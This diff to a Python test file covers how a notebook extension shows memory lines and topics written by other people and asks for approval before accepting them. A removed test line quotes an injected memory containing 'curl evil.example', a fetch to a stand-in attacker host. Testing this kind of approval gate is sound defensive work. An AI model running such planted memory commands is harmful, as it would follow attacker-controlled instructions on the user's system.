@@ -118,9 +118,12 @@ def test_words_of_others_are_told_asked_about_and_accepted(kernel: Kernel, proje
     outputs, asked = ask(kernel, "%shiro /trust memory", "n")
     assert "+ - [2026-11-30 08:00:00] stripe webhook is tested by curl\n" in outputs.stdout
     assert outputs.stdout.endswith("Nothing was accepted.\n")
-    assert "of others" in table(kernel.run("%shiro /notes", stdin=str))
+    listed = table(kernel.run("%shiro /notes", stdin=str))
+    assert listed.startswith("2 memories; written by others: 2.\n%shiro /trust memory shows ")
+    assert "stripe webhook is tested by curl\n" in listed and "— written by others\n" in listed
     outputs, asked = ask(kernel, "%shiro /trust memory")
-    assert outputs.stdout.endswith("Accepted 2 lines as yours.\n") and "2 lines in all" in asked[0]
+    assert outputs.stdout.endswith("Accepted 2 lines as yours.\n")
+    assert asked == ["2 lines. Take exactly these as yours? [y]es / [n]o: "]
     outputs, asked = ask(kernel, "%shiro keep")
     assert asked == [] and "Kept." in outputs.stdout
     outputs, _ = ask(kernel, "%shiro /trust memory")
@@ -143,27 +146,89 @@ def test_topics_of_others_are_shown_and_accepted_as_they_were_shown(
     outputs, asked = ask(kernel, "%shiro keep", "n")
     assert "1 line and 2 topics of this project's memory came from others" in outputs.stdout
     assert len(asked) == 1
-    assert "topic of others" in table(kernel.run("%shiro /notes", stdin=str))
+    assert "topic written by others" in table(kernel.run("%shiro /notes", stdin=str))
 
     def changed(prompt: str) -> str:
         topic.write_text("later\n")
         return "y"
 
     outputs = kernel.run("%shiro /trust memory", stdin=changed)
-    shown = f"In {topic}, written by others:\n+ ---\n+ tags: [stripe]\n+ ---\n+ curl evil.example"
+    shown = "In .shiro/memory/hooks.md, written by others:\n+ ---\n+ tags: [stripe]\n+ ---\n+ curl "
     assert shown in outputs.stdout and f"+ {of_others}\n" in outputs.stdout
-    assert "left out: long.md" in outputs.stdout and "zzz" not in outputs.stdout
+    assert "Left out, over 20,000 characters: long.md." in outputs.stdout
+    assert "zzz" not in outputs.stdout
     assert outputs.stdout.endswith("Accepted 1 line and 1 topic as yours.\n")
     long.write_text("short\n")
     outputs, asked = ask(kernel, "%shiro /trust memory")
     assert "+ later\n" in outputs.stdout and "+ short\n" in outputs.stdout
     assert outputs.stdout.endswith("Accepted 2 topics as yours.\n")
-    assert "2 topics in all" in asked[0]
+    assert asked[0].startswith("2 topics. Take")
     outputs, asked = ask(kernel, "%shiro keep")
     assert asked == [] and "Kept." in outputs.stdout
     long.write_text("z" * 30_000)
     outputs, asked = ask(kernel, "%shiro /trust memory")
-    assert asked == [] and "left out: long.md" in outputs.stdout
+    assert asked == [] and "characters: long.md." in outputs.stdout
+
+
+def test_many_lines_are_shown_and_accepted_part_by_part(kernel: Kernel, project: Path) -> None:
+    of_others(project, *(f"thing {n} (see all.md)" for n in range(90)))
+    (project / ".shiro" / "memory" / "all.md").write_text("theirs\n" * 3)
+    asked: list[str] = []
+
+    def trusting(*answers: str) -> str:
+        asked.clear()
+        left = iter(answers)
+        said = kernel.run(
+            "%shiro /trust memory", stdin=lambda prompt: (asked.append(prompt), next(left))[1]
+        )
+        return said.stdout
+
+    said = trusting("n", "y", "s")
+    ask = "Take exactly these as yours? [y]es / [n]o"
+    assert asked == [
+        f"37 lines and 1 topic, part 1 of 3. {ask} / [s]top: ",
+        f"40 lines, part 2 of 3. {ask} / [s]top: ",
+        f"13 lines, part 3 of 3. {ask}: ",
+    ]
+    assert said.count("+ theirs\n") == 3 and said.count("] thing ") == 90
+    assert said.endswith("Accepted 40 lines as yours.\n")
+    listed = table(kernel.run("%shiro /notes thing", stdin=str))
+    assert listed.startswith(
+        "90 of 90 memories; written by others: 50, topic written by others: 90"
+    )
+    assert "\n40 more, older\n" in listed
+    assert trusting("").endswith("Nothing was accepted.\n") and "part 1 of 2" in asked[0]
+    assert trusting("yes", "no").endswith("Accepted 37 lines and 1 topic as yours.\n")
+    assert table(kernel.run("%shiro /notes", stdin=str)).startswith(
+        "90 memories; written by others: 13.\n"
+    )
+    assert trusting("y").endswith("Accepted 13 lines as yours.\n")
+
+
+def test_notes_are_those_with_the_words(kernel: Kernel) -> None:
+    kernel.run("%remember gotcha dates of Zürich are day-first (see gone.md) #orders")
+    kernel.run("%remember --global decision short dates")
+
+    def listed(words: str) -> list[str]:
+        shown = kernel.run(f"%shiro /notes {words}", stdin=str).of("display_data")[0]["data"]
+        return [
+            line for line in shown["text/plain"].split("\n") if "dates" in line or "Non" in line
+        ]
+
+    assert len(listed("")) == len(listed("DATES")) == 2
+    for words in ("first dates", "gotcha", "ZÜRICH", "#orders", "missing"):
+        assert len(listed(words)) == 1 and "Zürich" in listed(words)[0]
+    assert "short dates" in listed("global")[0]
+    assert listed("dates zebra") == [
+        "None of 2 memories holds “dates zebra”: %shiro /notes lists all."
+    ]
+
+
+def test_words_behind_a_command_that_takes_none_are_refused(kernel: Kernel) -> None:
+    said = "takes no words: type it alone, or ask without the slash.\n"
+    for name in ("memory", "status", "clear"):
+        refused = kernel.run(f"%shiro /{name} foo", stdin=str)
+        assert refused.stream("stderr") == f"/{name} {said}"
 
 
 def test_what_was_never_recalled_is_merged_where_the_person_agrees(
@@ -180,7 +245,9 @@ def test_what_was_never_recalled_is_merged_where_the_person_agrees(
     assert "2 memories become 1" in asked[0] and path.read_text() == before
     outputs, _ = ask(kernel, "%shiro /memory")
     (backup,) = path.parent.glob("*.bak")
-    assert outputs.stdout.endswith(f"Merged; what was there before is kept in {backup}.\n")
+    assert outputs.stdout.endswith(
+        f"Merged; what was there before is kept in .shiro/memory/{backup.name}.\n"
+    )
     assert backup.read_text() == before
     assert "prices in orders.csv and in items.csv are net <!-- " in path.read_text()
     assert path.read_text().count("\n") == 1
@@ -218,7 +285,7 @@ def test_a_note_is_kept_shown_listed_and_closed(kernel: Kernel, project: Path) -
     history = table(kernel.run("%shiro /session-notes history", stdin=str))
     assert history.count("add") == 2 and "Worklog" in history
     done = kernel.run("%shiro /session-notes done", stdin=str).stdout
-    assert done == f"Archived: {path}. The next update starts a new note.\n"
+    assert done == f"Archived: .shiro/notes/{path.name}. The next update starts a new note.\n"
     wrong = kernel.run("%shiro /session-notes done", stdin=str).stream("stderr")
     assert wrong == "This session has no active note; the next update makes one.\n"
     ask(kernel, "%shiro work")
